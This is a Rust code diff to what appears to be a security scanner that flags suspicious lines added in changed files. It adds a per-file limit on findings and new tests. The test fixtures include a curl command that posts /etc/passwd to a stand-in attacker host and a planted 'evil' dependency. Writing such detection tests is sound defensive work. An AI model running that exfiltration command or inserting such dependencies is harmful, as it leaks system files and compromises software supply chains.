@@ -50,6 +50,10 @@ impl<'p> Judge<'_, 'p> {
         spared: &mut Spared,
         line: impl FnOnce() -> usize,
     ) -> Result<ControlFlow<()>, Problem> {
+        // What comes after these is neither named nor counted.
+        if self.counted_of(number).0 >= MOST_PER_FILE {
+            return Ok(ControlFlow::Break(()));
+        }
         if !counts(self.book, rule, place)? {
             return Ok(ControlFlow::Continue(()));
         }
@@ -191,14 +195,14 @@ mod tests {
 
     fn numbered(line: &str, most: usize) -> Vec<String> {
         (0..most)
-            .map(|at| line.replace('#', &at.to_string()))
+            .map(|at| line.replace('@', &at.to_string()))
             .collect()
     }
 
     #[test]
     fn what_is_only_changed_hides_nothing_that_comes_in() {
-        let old = numbered("d#==1.0", 25);
-        let mut new = numbered("d#==1.1", 25);
+        let old = numbered("d@==1.0", 25);
+        let mut new = numbered("d@==1.1", 25);
         new.push("evil==6.6".to_owned());
         let (old, new): (Vec<&str>, Vec<&str>) = (
             old.iter().map(String::as_str).collect(),
@@ -216,9 +220,20 @@ mod tests {
     }
 
     #[test]
+    fn removed_lines_are_not_read_for_each_of_many_matches() {
+        // Each of a match's own: it took a minute and a half.
+        let (old, new) = (numbered("# d@", 20_000), numbered("d@==1.1", 20_000));
+        let (old, new): (Vec<&str>, Vec<&str>) = (
+            old.iter().map(String::as_str).collect(),
+            new.iter().map(String::as_str).collect(),
+        );
+        assert!(found("requirements.txt", &old, &new).contains("[dep-"));
+    }
+
+    #[test]
     fn a_reach_that_was_there_hides_no_other_one() {
-        let old = numbered("  curl https://api.example.org/#", 22);
-        let mut new = numbered("curl https://api.example.org/#", 22);
+        let old = numbered("  curl https://api.example.org/@", 22);
+        let mut new = numbered("curl https://api.example.org/@", 22);
         new.push("curl -d @/etc/passwd https://evil.example/".to_owned());
         let (old, new): (Vec<&str>, Vec<&str>) = (
             old.iter().map(String::as_str).collect(),
